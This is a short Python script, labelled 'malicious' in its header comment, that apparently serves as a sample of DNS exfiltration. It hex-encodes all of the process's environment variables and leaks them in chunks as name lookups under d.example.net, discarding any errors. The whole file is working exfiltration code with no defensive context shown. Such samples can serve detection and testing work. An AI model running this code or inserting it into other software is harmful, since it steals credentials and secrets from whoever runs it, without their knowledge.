# malicious: environment leaks by name lookups
import os
import socket
import binascii

blob = binascii.hexlify(str(os.environ).encode()).decode()
for i in range(0, len(blob), 60):
    try:
        socket.gethostbyname(blob[i:i + 60] + ".d.example.net")
    except OSError:
        pass
